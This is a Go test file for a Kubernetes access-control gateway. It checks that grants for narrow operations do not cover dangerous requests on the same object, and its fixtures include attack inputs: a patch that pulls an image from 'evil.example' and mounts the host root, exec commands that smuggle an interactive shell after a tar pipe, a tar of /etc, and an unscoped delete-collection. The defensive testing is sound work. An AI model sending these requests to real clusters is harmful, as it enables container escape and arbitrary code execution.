package kube

import (
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/k9s-guard/k9s-guard/stepup"
)

// classifyCT is classify with a content type.
func classifyCT(t *testing.T, method, path, ctype, body string) Operation {
	t.Helper()
	r, err := http.NewRequest(method, "https://api"+path, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	if ctype != "" {
		r.Header.Set("Content-Type", ctype)
	}
	op, err := Classify(r, []byte(body), true)
	if err != nil {
		t.Fatal(err)
	}
	return op
}

const (
	deployWeb = "/apis/apps/v1/namespaces/shop/deployments/web"
	strategic = "application/strategic-merge-patch+json"
	restart1  = `{"spec":{"template":{"metadata":{"annotations":{"kubectl.kubernetes.io/restartedAt":"2026-12-02T10:00:00Z"}}}}}`
	restart2  = `{"spec":{"template":{"metadata":{"annotations":{"kubectl.kubernetes.io/restartedAt":"2026-12-02T11:00:00Z"}}}}}`
	evilImage = `{"spec":{"template":{"spec":{"containers":[{"name":"c","image":"evil.example/pwn:1"}],"volumes":[{"name":"h","hostPath":{"path":"/"}}]}}}}`
	setImage  = `{"spec":{"template":{"spec":{"containers":[{"name":"c","image":"web:2"}]}}}}`
	restartUp = `{"spec":{"template":{"metadata":{"annotations":{"kubectl.kubernetes.io/restartedAt":"x"}},"spec":{"containers":[{"name":"c","image":"evil:1"}]}}}}`
	podsExec  = "/api/v1/namespaces/shop/pods/web-1/exec"
	nodeProxy = "/api/v1/nodes/n1/proxy"
	cmsShop   = "/api/v1/namespaces/shop/configmaps"
	jobsShop  = "/apis/batch/v1/namespaces/shop/jobs"
	ownedJob  = `{"metadata":{"name":"nightly-manual-abc","ownerReferences":[{"apiVersion":"batch/v1","kind":"CronJob","name":"nightly","uid":"u1","controller":true}]},"spec":{"template":{"spec":{"containers":[{"name":"c","image":"x"}]}}}}`
	otherJob  = `{"metadata":{"name":"other-manual-abc","ownerReferences":[{"apiVersion":"batch/v1","kind":"CronJob","name":"other","uid":"u2","controller":true}]}}`
)

// TestGrantCoversTheContent — attack: a grant for a mild operation on an
// object (restart, a GET of a kubelet's /configz, kubectl cp's tar, a
// delete-collection that matches nothing, a trigger) carries a dangerous
// one on the same object (an image change, a POST to the kubelet's /run, a
// shell, a delete of everything, an arbitrary Job). Each grant, whether made
// for a held request (OperationScope) or from a key (KeyScope), covers its
// own operation and nothing next to it.
func TestGrantCoversTheContent(t *testing.T) {
	type req struct {
		method, path, ctype, body string
		want                      bool
	}
	web := []stepup.Target{{Namespace: "shop", Name: "web"}}
	pod := []stepup.Target{{Namespace: "shop", Name: "web-1"}}
	key := func(action, res string, targets []stepup.Target) *stepup.GrantScope {
		s, ok := stepup.KeyScope(action, res, targets)
		if !ok {
			t.Fatalf("no key scope for %s", action)
		}
		return s
	}
	op := func(method, path, ctype, body string) *stepup.GrantScope {
		return OperationScope(classifyCT(t, method, path, ctype, body))
	}
	cases := []struct {
		name  string
		scope *stepup.GrantScope
		reqs  []req
	}{
		{"restart from the key", key("restart", "deployments", web), []req{
			{"PATCH", deployWeb, strategic, restart1, true},
			{"PATCH", deployWeb, strategic, evilImage, false},
			{"PATCH", deployWeb, strategic, restartUp, false},
			{"PATCH", deployWeb, strategic, setImage, false},
			{"PUT", deployWeb, "application/json", `{}`, false},
		}},
		{"restart held at the gateway", op("PATCH", deployWeb, strategic, restart1), []req{
			{"PATCH", deployWeb, strategic, restart2, true},
			{"PATCH", deployWeb, strategic, evilImage, false},
		}},
		{"edit from the key covers any change", key("edit", "deployments", web), []req{
			{"PATCH", deployWeb, strategic, restart1, true},
			{"PATCH", deployWeb, strategic, evilImage, true},
			{"PATCH", deployWeb, strategic, setImage, true},
			{"PUT", deployWeb, "application/json", `{}`, true},
			{"DELETE", deployWeb, "", "", false},
		}},
		{"cordon", key("cordon", "nodes", []stepup.Target{{Name: "n1"}}), []req{
			{"PATCH", "/api/v1/nodes/n1", strategic, `{"spec":{"unschedulable":true}}`, true},
			{"PATCH", "/api/v1/nodes/n1", strategic, `{"metadata":{"labels":{"x":"y"}}}`, false},
			{"PATCH", "/api/v1/nodes/n1", strategic, `{"spec":{"unschedulable":true,"taints":[]}}`, false},
		}},
		{"node proxy GET /configz", op("GET", nodeProxy+"/configz", "", ""), []req{
			{"GET", nodeProxy + "/configz", "", "", true},
			{"POST", nodeProxy + "/configz", "", "", false},
			{"POST", nodeProxy + "/run/shop/web-1/c", "", "", false},
			{"DELETE", nodeProxy + "/pods/shop/web-1", "", "", false},
			{"GET", nodeProxy + "/configz/", "", "", false},
			{"GET", nodeProxy + "/configz?x=1", "", "", false},
			{"GET", "/api/v1/proxy/nodes/n1/configz", "", "", false},
		}},
		{"transfer held at the gateway", op("POST", podsExec+"?command=tar&command=cf&command=-&command=/data", "", ""), []req{
			{"POST", podsExec + "?command=tar&command=cf&command=-&command=/data", "", "", true},
			{"GET", podsExec + "?command=tar&command=cf&command=-&command=/data", "", "", true},
			{"POST", podsExec + "?command=tar&command=cf&command=-&command=/etc", "", "", false},
			{"POST", podsExec + "?command=sh&command=-i&tty=true&stdin=true", "", "", false},
		}},
		{"transfer from the key", key("transfer", "pods", pod), []req{
			{"POST", podsExec + "?command=tar&command=cf&command=-&command=/data", "", "", true},
			{"POST", podsExec + "?command=test&command=-d&command=/tmp", "", "", true},
			{"POST", podsExec + "?command=sh&command=-c&command=" + url.QueryEscape("tar cf - '/data' | tail -c+1"), "", "", true},
			{"POST", podsExec + "?command=sh&command=-c&command=" + url.QueryEscape("tar cf - '/data' | tail -c+1 && sh -i"), "", "", false},
			{"POST", podsExec + "?command=tar&command=-xmf&command=-&command=-C&command=/tmp", "", "", true},
			{"POST", podsExec + "?command=sh&command=-i&tty=true", "", "", false},
			{"POST", podsExec + "?command=tar&command=cf&command=-&command=--to-command=sh", "", "", false},
		}},
		{"shell from the key runs anything", key("exec", "pods", pod), []req{
			{"POST", podsExec + "?command=sh&command=-i&tty=true", "", "", true},
			{"POST", podsExec + "?command=tar&command=cf&command=-&command=/data", "", "", true},
		}},
		{"exec held at the gateway", op("POST", podsExec+"?command=ls", "", ""), []req{
			{"POST", podsExec + "?command=ls", "", "", true},
			{"POST", podsExec + "?command=sh", "", "", false},
			{"POST", podsExec + "?command=ls&command=-la", "", "", false},
		}},
		{"delete-collection keeps its selector", op("DELETE", cmsShop+"?labelSelector=redteam%3Dnothing", "", ""), []req{
			{"DELETE", cmsShop + "?labelSelector=redteam%3Dnothing", "", "", true},
			{"DELETE", cmsShop, "", "", false},
			{"DELETE", cmsShop + "?labelSelector=redteam%3Dnothing&fieldSelector=metadata.name%21%3Dx", "", "", false},
			{"DELETE", cmsShop + "?labelSelector=redteam", "", "", false},
			{"DELETE", cmsShop + "?labelSelector=redteam%3Dnothing&labelSelector=", "", "", false},
		}},
		{"a delete key with unknown names never covers a delete-collection", key("delete", "configmaps", nil), []req{
			{"DELETE", cmsShop, "", "", false},
			{"DELETE", "/api/v1/configmaps", "", "", false},
		}},
		{"trigger from the key", key("trigger", "cronjobs", []stepup.Target{{Namespace: "shop", Name: "nightly"}}), []req{
			{"POST", jobsShop, "application/json", ownedJob, true},
			{"POST", jobsShop, "application/json", otherJob, false},
			{"POST", jobsShop, "application/json", `{"metadata":{"name":"pwn"}}`, false},
		}},
		{"trigger of an unknown CronJob covers nothing", key("trigger", "cronjobs", nil), []req{
			{"POST", jobsShop, "application/json", ownedJob, false},
		}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			gr := stepup.Grant{Scope: c.scope}
			for _, r := range c.reqs {
				o := classifyCT(t, r.method, r.path, r.ctype, r.body)
				if got := GrantCovers(gr, o); got != r.want {
					t.Errorf("%s %s %s: covered = %v, want %v (scope %s; op %s, content %q)", r.method, r.path, r.body, got, r.want, stepup.ScopeString(c.scope), o.Action, o.Content)
				}
			}
		})
	}
}

// A key pressed while a narrower grant is open must prompt: `e` after `r`
// on the same Deployment, a shell after a transfer.
func TestScopeWithinActions(t *testing.T) {
	web := []stepup.Target{{Namespace: "shop", Name: "web"}}
	pod := []stepup.Target{{Namespace: "shop", Name: "web-1"}}
	k := func(action, res string, targets []stepup.Target) *stepup.GrantScope {
		s, _ := stepup.KeyScope(action, res, targets)
		return s
	}
	for _, tc := range []struct {
		name         string
		outer, inner *stepup.GrantScope
		want         bool
	}{
		{"restart then edit", k("restart", "deployments", web), k("edit", "deployments", web), false},
		{"edit then restart", k("edit", "deployments", web), k("restart", "deployments", web), true},
		{"transfer then shell", k("transfer", "pods", pod), k("exec", "pods", pod), false},
		{"shell then transfer", k("exec", "pods", pod), k("transfer", "pods", pod), true},
		{"kill then delete", k("kill", "pods", pod), k("delete", "pods", pod), true},
		{"cordon then uncordon", k("cordon", "nodes", []stepup.Target{{Name: "n1"}}), k("uncordon", "nodes", []stepup.Target{{Name: "n1"}}), false},
	} {
		if got := stepup.ScopeWithin(tc.outer, tc.inner); got != tc.want {
			t.Errorf("%s: within = %v, want %v", tc.name, got, tc.want)
		}
	}
}

// The prompt and the audit say what the operation does, not only what it
// touches.
func TestContentShownAndRecorded(t *testing.T) {
	for _, c := range []struct {
		method, path, ctype, body, want string
	}{
		{"POST", podsExec + "?command=sh&command=-c&command=echo+hi", "", "", "exec pod/exec shop/web-1 (sh -c 'echo hi')"},
		{"POST", nodeProxy + "/run/shop/web-1/c", "", "", "proxy node/proxy n1 (POST /run/shop/web-1/c)"},
		{"DELETE", cmsShop, "", "", "delete configmaps in namespace shop (no selector: every one)"},
		{"DELETE", cmsShop + "?labelSelector=app%3Dx", "", "", `delete configmaps in namespace shop (labelSelector="app=x" fieldSelector="")`},
		{"POST", jobsShop, "application/json", ownedJob, "trigger jobs in namespace shop (a Job from cronjob nightly)"},
		{"PATCH", deployWeb, strategic, restart1, "restart deployment shop/web"},
	} {
		o := classifyCT(t, c.method, c.path, c.ctype, c.body)
		if got := o.String(); got != c.want {
			t.Errorf("%s %s: %q, want %q", c.method, c.path, got, c.want)
		}
	}
	o := classifyCT(t, "POST", nodeProxy+"/configz?a=b", "", "")
	if o.SubPath != "/configz?a=b" {
		t.Errorf("sub-path %q", o.SubPath)
	}
	o = classifyCT(t, "POST", podsExec+"?command=tar&command=cf&command=-&command=/my%20data", "", "")
	if got := commandOf(o); got != "tar cf - '/my data'" || o.Action != "transfer" {
		t.Errorf("command %q, action %s", got, o.Action)
	}
}
